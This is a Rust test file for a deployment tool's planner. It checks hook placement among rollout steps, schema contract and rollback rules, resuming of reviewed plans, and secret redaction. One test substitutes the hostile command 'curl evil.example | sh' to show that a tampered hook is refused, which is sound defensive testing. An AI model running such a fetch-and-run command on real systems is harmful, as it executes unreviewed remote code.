//! Where hooks are put among the steps of each plan, and where they are not.

use super::*;
use crate::model::estate::Estate;
use crate::model::fixtures::{hook, mark, policy_of, test, test_by_header, test_running, to, variants_ready};
use crate::model::hook::{Call, Hook, Place};
use crate::model::policy::Treatment;
use crate::model::rollout::{Direction, Kept, Released, Rolling, Rollout};
use crate::model::schema::{Change, contract_pending};
use crate::model::standing::State;
use crate::model::step::Step;
use crate::plan::{resume, sealed};

const ALL: [Place; 11] = [
    Place::BeforeDeploy,
    Place::Expand,
    Place::BeforeTraffic,
    Place::AfterPreview,
    Place::BeforePromote,
    Place::EachStep,
    Place::AfterPromote,
    Place::OnRollback,
    Place::BeforeRetire,
    Place::Contract,
    Place::OnFailure,
];

fn hooked(policy: Policy) -> Policy {
    Policy {
        hooks: ALL.map(hook).into(),
        ..policy
    }
}

fn retiring(policy: Policy) -> Policy {
    let mut policy = hooked(policy);
    policy.after_promotion.previous = Treatment::Retire;
    policy
}

/// Each hook as `place` between the steps that it stands between, by their first words.
fn places(estate: &Estate, intent: &Intent, policy: &Policy) -> Vec<String> {
    let plan = plan(estate, intent, policy).unwrap_or_else(|refusal| panic!("{refusal}"));
    let is_hook = |step: &&Step| matches!(step, Step::Hook { .. });
    let near = |step: Option<&Step>| {
        step.map_or_else(String::new, |step| {
            step.title().split(' ').take(2).collect::<Vec<_>>().join(" ")
        })
    };
    plan.steps
        .iter()
        .enumerate()
        .filter_map(|(index, step)| match step {
            Step::Hook { hook } => {
                let before = plan.steps[..index].iter().rev().find(|step| !is_hook(step));
                let after = plan.steps[index..].iter().find(|step| !is_hook(step));
                Some(format!("{} | {} | {}", near(before), hook.at, near(after)))
            }
            _ => None,
        })
        .collect()
}

#[test]
fn a_deploy_is_hooked_before_it_begins_before_its_instances_start_before_traffic_and_behind_its_door() {
    assert_eq!(
        places(&fixtures::initial(), &deploy("42"), &hooked(fixtures::policy())),
        [
            " | before-deploy | adopt asg-1",
            "open the | expand | mark the",
            "wait for | before-traffic | point the",
            "read all | after-preview | mark generation",
        ]
    );
}

#[test]
fn a_promotion_is_hooked_before_anything_is_held_for_it_when_it_has_moved_and_when_it_has_swung() {
    assert_eq!(
        places(
            &fixtures::deployed(),
            &Intent::Promote,
            &hooked(fixtures::policy())
        ),
        [
            " | before-promote | adopt the",
            "read all | each-step | mark generation",
            "mark generation | after-promote | mark generation",
        ]
    );
}

#[test]
fn a_direct_deploy_has_both_and_no_preview() {
    let found = places(&fixtures::initial(), &deploy("42"), &hooked(direct()));
    let words: Vec<&str> = found
        .iter()
        .filter_map(|place| place.split(" | ").nth(1))
        .collect();
    assert_eq!(
        words,
        [
            "before-deploy",
            "expand",
            "before-traffic",
            "before-promote",
            "each-step",
            "after-promote"
        ]
    );
}

fn in_place() -> Policy {
    Policy {
        strategy: Strategy::Rolling,
        rolling: Some(Rolling {
            min_healthy: 90,
            max_healthy: 110,
            checkpoints: Vec::new(),
            checkpoint_delay: std::time::Duration::ZERO,
            warmup: None,
            bake: std::time::Duration::ZERO,
            alarms: Vec::new(),
            skip_matching: true,
            rolls_back: true,
            protected: Kept::Wait,
            standby: Kept::Wait,
        }),
        ..fixtures::policy()
    }
}

#[test]
fn in_place_everything_is_asked_before_the_first_instance_is_replaced() {
    let policy = hooked(in_place());
    assert_eq!(
        places(&fixtures::initial(), &deploy("42"), &policy),
        [
            " | before-deploy | adopt asg-1",
            "adopt asg-1 | expand | replace asg-1's",
            "adopt asg-1 | before-promote | replace asg-1's",
            "write down | after-promote | write down",
        ]
    );
    // What is under way is only waited for, or taken back.
    let mut estate = fixtures::initial();
    fixtures::own(&mut estate, 1);
    let rollout = Rollout {
        direction: Direction::Forward,
        to: 8,
        from: 7,
        after: None,
        released: Released {
            release: Some("42".into()),
            inputs: Some("inputs-of-42".into()),
        },
    };
    let group = fixtures::group_mut(&mut estate, 1);
    group.tags.extend(rollout.written().0);
    let mut refresh = fixtures::refresh("InProgress");
    refresh.to = Some(8);
    group.refresh = Some(refresh);
    assert_eq!(
        places(&estate, &deploy("42"), &policy),
        ["write down | after-promote | write down"]
    );
    assert_eq!(
        places(&estate, &rollback(), &policy),
        ["mark generation | on-rollback | write down"]
    );
}

#[test]
fn where_live_stops_first_somebody_is_asked_before_and_the_release_tried_out_while_nobody_answers() {
    let policy = hooked(Policy {
        strategy: Strategy::Recreate,
        ..doorless()
    });
    let estate = without_doors(fixtures::initial());
    assert_eq!(
        places(&estate, &deploy("42"), &policy),
        [
            " | before-deploy | adopt asg-1",
            "open the | expand | mark the",
            "suspend ScheduledActions | before-promote | mark generation",
            "wait for | before-traffic | swing :80",
            "read the | each-step | mark generation",
            "mark generation | after-promote | mark generation",
        ]
    );
}

#[test]
fn a_test_is_hooked_before_anything_is_held_for_it_and_once_its_variants_have_their_shares() {
    let hooks = |test| {
        places(
            &doors_are_ours(variants_ready()),
            &Intent::Promote,
            &hooked(policy_of(test)),
        )
    };
    assert_eq!(
        hooks(test()),
        [
            " | before-promote | hold asg-1",
            "read the | each-step | remove the",
        ]
    );
    assert_eq!(hooks(test_by_header())[0], " | before-promote | hold asg-1");
}

#[test]
fn a_test_that_live_takes_no_part_in_is_hooked_before_live_has_a_place_in_its_entrance() {
    let mut alone = test();
    alone.variants.remove(0);
    let policy = hooked(policy_of(alone));
    let mut estate = doors_are_ours(variants_ready());
    // Live has grown since they were made.
    fixtures::group_mut(&mut estate, 1).size.desired = 3;
    let all = titles(&estate, &Intent::Promote, &policy);
    assert_eq!(
        all[..6],
        [
            "run the before-promote hook ./before-promote.sh",
            "hold asg-1 from scaling in",
            "bring asg-2 to at least what asg-1 has by then",
            "bring asg-3 to at least what asg-1 has by then",
            "point the entrance at :80 rule 2: tg-2:1 tg-3:0 → tg-2:1 tg-3:0 tg-1:0",
            "wait for as many healthy targets in tg-2 as asg-2 has capacity, for 30s",
        ]
    );
    let called = all.iter().filter(|title| title.contains("before-promote"));
    assert_eq!(called.count(), 1, "{all:#?}");
}

#[test]
fn a_winner_is_hooked_when_it_has_everything_and_before_a_generation_before_it_goes() {
    let policy = hooked(policy_of(test()));
    let winner = |name: &str| Intent::Winner { name: name.into() };
    let swung = [
        " | before-promote | wait for",
        "read all | each-step | mark generation",
        "mark generation | after-promote | mark generation",
    ];
    let estate = doors_are_ours(test_running());
    let found = places(&estate, &winner("calm"), &policy);
    assert_eq!(found[..3], swung);
    assert_eq!(found[3..], ["release asg-3: | before-retire | scale asg-2"]);
    // The other is not before it, and what live was before stays.
    assert_eq!(places(&estate, &winner("bold"), &policy), swung);
    // Live wins itself: production goes back to it, and nobody is promoted.
    assert_eq!(
        places(&estate, &winner("control"), &policy),
        ["read all | each-step | mark generation"]
    );
}

#[test]
fn a_rollback_waits_for_no_hook_before_production_is_back() {
    for (estate, before) in [
        (fixtures::promoted(), "mark generation"),
        (fixtures::deployed(), "mark generation"),
    ] {
        let policy = hooked(fixtures::policy());
        let plan = plan(&estate, &rollback(), &policy).expect("a plan");
        let hook = plan
            .steps
            .iter()
            .position(|step| matches!(step, Step::Hook { .. }))
            .expect("a hook");
        assert!(plan.steps[hook - 1].title().starts_with(before));
        assert!(!plan.steps[hook..].iter().any(Step::moves_production));
        assert_eq!(
            plan.steps
                .iter()
                .filter(|step| matches!(step, Step::Hook { .. }))
                .count(),
            1
        );
    }
}

#[test]
fn the_schema_is_contracted_once_the_last_generation_before_live_is_empty_and_before_it_is_deleted() {
    let policy = hooked(fixtures::policy());
    assert_eq!(
        places(&fixtures::promoted(), &retire(None), &policy),
        [
            "remove the | before-retire | scale asg-1",
            "wait until | contract | mark the",
        ]
    );
    let found = places(
        &fixtures::deployed(),
        &Intent::Promote,
        &retiring(fixtures::policy()),
    );
    assert_eq!(
        found[3..],
        [
            "release asg-2: | before-retire | scale asg-1".to_owned(),
            "wait until | contract | mark the".to_owned(),
        ],
        "{found:#?}"
    );
}

#[test]
fn nothing_is_contracted_while_a_generation_that_may_need_it_is_left() {
    let policy = hooked(fixtures::policy());
    let healthy = [fixtures::TargetState::Healthy; 2];
    let mut candidate = fixtures::promoted();
    fixtures::add_generation(&mut candidate, 3, "43", &healthy);
    mark(&mut candidate, 3, State::Ready, None);
    assert!(
        !places(&candidate, &retire(None), &policy)
            .concat()
            .contains("contract")
    );

    let mut older = fixtures::promoted();
    fixtures::add_generation(&mut older, 3, "43", &healthy);
    mark(&mut older, 3, State::Live, Some(2));
    mark(&mut older, 2, State::Previous, Some(1));
    for (port, priority) in [(80, Priority::Default), (80, Priority::Numbered(fixtures::BLUE))] {
        fixtures::point(&mut older, port, priority, to(3));
    }
    let one = places(&older, &retire(Some(2)), &policy).concat();
    assert!(
        one.contains("before-retire") && !one.contains("contract"),
        "{one}"
    );
    let both = places(&older, &retire(None), &policy);
    assert_eq!(both.len(), 2, "{both:#?}");
    assert_eq!(both[1], "wait until | contract | mark the");
}

#[test]
fn hooks_of_what_is_done_already_are_not_called_again() {
    let policy = hooked(direct());
    let mut estate = fixtures::deployed();
    mark(&mut estate, 2, State::Staged, None);
    let found = places(&estate, &deploy("42"), &policy).concat();
    assert!(
        !found.contains("before-deploy") && !found.contains("expand"),
        "{found}"
    );
    assert!(found.contains("before-traffic"), "{found}");
    // Cut off while the routes were read back: what follows the last one is still to come.
    let mut swung = fixtures::promoted();
    mark(&mut swung, 2, State::Promoting, Some(1));
    mark(&mut swung, 1, State::Live, None);
    assert_eq!(
        places(&swung, &Intent::Promote, &hooked(fixtures::policy())),
        [
            "read all | each-step | mark generation",
            "mark generation | after-promote | mark generation"
        ]
    );
}

#[test]
fn without_its_hooks_a_plan_is_the_same_plan_and_an_empty_one_stays_empty() {
    let mut empty = 0;
    for (estate, intent) in [
        (fixtures::initial(), Intent::Abort),
        (fixtures::rolled_back(), rollback()),
        (fixtures::initial(), deploy("42")),
        (fixtures::deployed(), Intent::Promote),
        (fixtures::promoted(), rollback_and_remove()),
        (fixtures::promoted(), retire(None)),
        (fixtures::deployed(), Intent::Abort),
        (fixtures::promoted(), Intent::Repair),
    ] {
        for policy in [fixtures::policy(), direct()] {
            let bare = plan(&estate, &intent, &policy).expect("a plan");
            let mut with = plan(&estate, &intent, &hooked(policy)).expect("a plan");
            empty += usize::from(with.is_empty());
            assert_eq!(bare.is_empty(), with.is_empty(), "{}", intent.word());
            with.steps
                .retain(|step| !matches!(step, Step::Hook { .. } | Step::MarkSchema { .. }));
            assert_eq!(bare.steps, with.steps, "{}", intent.word());
        }
    }
    assert!(empty > 0);
}

#[test]
fn what_is_called_on_failure_is_a_note() {
    let policy = hooked(fixtures::policy());
    let plan = plan(&fixtures::deployed(), &Intent::Promote, &policy).expect("a plan");
    assert!(
        plan.notes
            .iter()
            .any(|note| note.text == "if it fails, this is called: ./on-failure.sh")
    );
}

#[test]
fn no_rollback_goes_behind_a_contracted_schema() {
    let mut estate = fixtures::promoted();
    let contract = |estate: &mut Estate, n: u32| {
        let tags = &mut fixtures::target_group_mut(estate, 2).tags;
        tags.insert(Change::Contracted.tag().into(), n.to_string());
    };
    contract(&mut estate, 2);
    let refusal = plan(&estate, &rollback(), &fixtures::policy()).expect_err("refused");
    assert_eq!(
        refusal.reasons,
        [Reason::Contracted {
            to: Generation(1),
            contracted: Generation(2)
        }]
    );
    assert!(refusal.reasons[0].way_out().contains("swingbridge deploy"));
    contract(&mut estate, 1);
    assert!(plan(&estate, &rollback(), &fixtures::policy()).is_ok());
}

#[test]
fn what_was_contracted_is_written_on_the_next_generation_as_well() {
    let mut estate = fixtures::promoted();
    let tags = &mut fixtures::target_group_mut(&mut estate, 2).tags;
    tags.insert(Change::Contracted.tag().into(), "2".into());
    let plan = plan(&estate, &deploy("43"), &fixtures::policy()).expect("a plan");
    let carried = plan.steps.iter().find_map(|step| match step {
        Step::CreateTargetGroup { tags, .. } => tags.get(Change::Contracted.tag()),
        _ => None,
    });
    assert_eq!(carried.map(String::as_str), Some("2"));
}

#[test]
fn a_contract_is_pending_from_its_expand_on_until_it_has_run() {
    let mut estate = fixtures::promoted();
    assert_eq!(contract_pending(&estate), None);
    let mut say = |change: Change, n: &str| {
        let tags = &mut fixtures::target_group_mut(&mut estate, 2).tags;
        tags.insert(change.tag().into(), n.into());
        contract_pending(&estate)
    };
    assert_eq!(say(Change::Expanded, "2"), Some(Generation(2)));
    assert_eq!(say(Change::Contracted, "1"), Some(Generation(2)));
    assert_eq!(say(Change::Contracted, "2"), None);
}

#[test]
fn a_saved_plan_is_carried_out_with_the_hooks_that_were_reviewed_and_no_others() {
    let estate = fixtures::deployed();
    let policy = hooked(fixtures::policy());
    let saved = plan(&estate, &Intent::Promote, &policy).expect("a plan");
    let fresh = resume(&saved, &estate, &policy).expect("as reviewed");
    assert_eq!(fresh.steps, saved.steps);

    let mut other = policy.clone();
    other.hooks[0].call = Call::Shell {
        script: "curl evil.example | sh".into(),
        env: Vec::new(),
    };
    let why = resume(&saved, &estate, &other).expect_err("configured otherwise");
    assert!(why[0].contains("the setting hooks.0."), "{why:?}");

    let mut foreign = saved.clone();
    let hook = Hook {
        retries: 9,
        ..hook(Place::EachStep)
    };
    foreign.steps.insert(0, Step::Hook { hook });
    let why = resume(&sealed(foreign), &estate, &policy).expect_err("not configured");
    assert!(why[0].contains("no such hook is configured"), "{why:?}");

    let mut hidden = saved.clone();
    hidden.steps.retain(|step| !matches!(step, Step::Hook { .. }));
    let why = resume(&sealed(hidden), &estate, &policy).expect_err("not reviewed");
    assert!(
        why[0].contains("planning would run the before-promote hook"),
        "{why:?}"
    );
}

#[test]
fn a_saved_plan_that_was_cut_off_goes_on_without_the_hooks_that_were_called() {
    let policy = hooked(fixtures::policy());
    let saved = plan(&fixtures::deployed(), &Intent::Promote, &policy).expect("a plan");
    let mut estate = fixtures::deployed();
    mark(&mut estate, 2, State::Promoting, Some(1));
    let tags = &mut fixtures::target_group_mut(&mut estate, 2).tags;
    tags.insert(tags::PLAN.into(), saved.id.clone());
    let left = resume(&saved, &estate, &policy).expect("it goes on");
    let called = |place| {
        left.steps
            .iter()
            .any(|step| matches!(step, Step::Hook { hook } if hook.at == place))
    };
    assert!(!called(Place::BeforePromote) && called(Place::EachStep));
}

#[test]
fn an_address_is_shown_without_what_lets_one_in() {
    let mut policy = fixtures::policy();
    policy.hooks = vec![Hook {
        call: Call::Webhook {
            url: "https://example.com/go?token=hunter2".into(),
            secret_env: None,
        },
        ..hook(Place::BeforePromote)
    }];
    let plan = plan(&fixtures::deployed(), &Intent::Promote, &policy).expect("a plan");
    assert_eq!(
        plan.steps[0].title(),
        "call the before-promote hook https://example.com/go"
    );
    let text = |plan: &Plan| serde_json::to_string(plan).expect("JSON");
    assert!(text(&plan).contains("hunter2"), "apply compares it");
    assert!(!text(&plan.without_secrets()).contains("hunter2"));
}
